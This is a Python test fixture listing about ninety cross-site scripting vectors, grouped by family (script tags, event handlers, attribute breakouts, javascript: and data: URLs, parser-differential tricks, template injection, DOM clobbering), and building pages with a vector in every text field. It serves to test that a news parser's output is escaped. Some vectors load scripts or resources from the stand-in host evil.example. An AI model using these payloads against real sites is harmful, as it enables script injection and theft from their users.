"""What has made browsers run a page's text as a script, or fetch with it: one of each family, and ways around filters.

Each calls `pwned()`, shows a dialog, or asks evil.example for something, where it is not taken for text.
"""

from datetime import timedelta

from shared.records import Article, Comment, Image, Link, ParsedPage, Update, Widget, WidgetItem
from tests.services.web.library import AT, article_of, comment_of, page_of, widget_of

VECTORS = (
    # Scripts, and what a filter that looks for the word makes of them.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\x0csrc='https://evil.example/x.js'></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*<!--*/alert(1)//--></script>",
    "</script><script>alert(1)</script>",
    "<script type=module>import 'https://evil.example/m.js'</script>",
    "<script/x>alert(1)</script/x>",
    "<svg><script href=https://evil.example/x.js /></svg>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    # Handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/i.png onload=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src='x' onerror=\u00a0alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=https://evil.example/v.mp4 onerror=alert(1)></video>",
    "<video><source onerror=alert(1) src=x></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div style=animation-name:x onanimationstart=alert(1)>",
    "<a id=x tabindex=1 onfocus=alert(1) autofocus>x</a>",
    "<p onpointerenter=alert(1) onmouseover=alert(1)>x</p>",
    # Out of an attribute.
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "` onfocus=alert(1) autofocus x=`",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    # Addresses.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://news.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "\\\\evil.example\\",
    "https:evil.example",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button form=x formaction=javascript:alert(1)>x</button>",
    "<math href=javascript:alert(1)>x</math>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1) xmlns=http://www.w3.org/2000/svg></svg>#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    # What fetches, leads away or changes the page without a script.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=https://evil.example/o></object>",
    "<embed src=https://evil.example/e>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<link rel=preload as=image href=https://evil.example/p.png>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/s.css'; body{display:none}</style>",
    "<div style=\"background:url(https://evil.example/b.png)\">x</div>",
    "<table background=https://evil.example/t.png><tr><td>x</td></tr></table>",
    "<picture><source srcset=https://evil.example/c.png><img srcset=https://evil.example/d.png></picture>",
    "<img src=x srcset='https://evil.example/s.png 2x' lowsrc=https://evil.example/l.png>",
    "<portal src=https://evil.example/></portal>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    # Parsers that read a text twice and not alike.
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<a href=\"https://news.example/\"><a href=\"javascript:alert(1)\">x</a></a>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028<script>alert(1)</script>\u2029",
    "<\x00script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    # Templates, and names that a page's own scripts may meet.
    "{{7*7}}{% print(7*7) %}${7*7}#{7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "<form id=document><input name=body><img name=cookie id=main></form>",
    "<a id=top href=https://evil.example/ ping=https://evil.example/ping target=_top>x</a>",
    "<div data-live data-every=0.01 class=thread id=main>x</div>",
)  # fmt: skip


def hostile(number: int) -> list[ParsedPage]:
    """A page that has vector `number` in every field that is text, and the version that it replaces."""
    vector = VECTORS[number]
    name = f"hostile-{number}"
    article = article_of(
        name,
        title=f"Hostile {vector}",
        subtitle=vector,
        authors=[f"a{number} {vector}"],
        source=vector,
        language=vector,
        text=f"{vector}\n\n{vector}",
        html=f"<p>{vector}</p><a href=\"{vector}\">x</a><img alt='{vector}' src='{vector}'>{vector}<h2>{vector}</h2>",
        description=vector,
        tags=[vector],
        images=[Image(url=vector, alt=vector, caption=vector)],
        links=[Link(url=vector, text=vector)],
        updates=[Update(title=vector, text=vector)],
        published_at=AT,
    )
    comments = [_comment(name, "1", vector), _comment(name, "1.1", vector, parent="1", html="")]
    item = WidgetItem(title=vector, url=vector, author=vector, text=vector)
    widgets: list[Widget] = [
        widget_of(name, "links", title=vector, text=vector, items=[item], language=vector, embed_url=vector),
        widget_of(name, "text", text=vector, embed_url=f"https://news.example/{vector}"),
    ]
    pages = []
    for days, words in ((0, "Before. "), (1, "")):
        page = page_of(
            name,
            final_url=f"https://news.example/{name}?{vector}",  # the parser's are in normal form
            canonical_url=vector,
            site_name=vector,
            language=vector,
            title=vector,
            parser_version=vector,
            fetched_at=AT + timedelta(days=days),
        )
        changed: Article = article.model_copy(update={"text": words + article.text})
        pages.append(ParsedPage(page=page, article=changed, comments=comments, widgets=widgets))
    return pages


def _comment(name: str, position: str, vector: str, parent: str | None = None, **fields: object) -> Comment:
    values: dict[str, object] = {
        "author": f"a {vector}",
        "author_url": vector,
        "published_raw": vector,
        "text": vector,
        "html": f"<p>{vector}</p>{vector}",
        "quotes": [vector],
        "language": vector,
        "permalink": vector,
        **fields,
    }
    return comment_of(name, position, parent, **values)
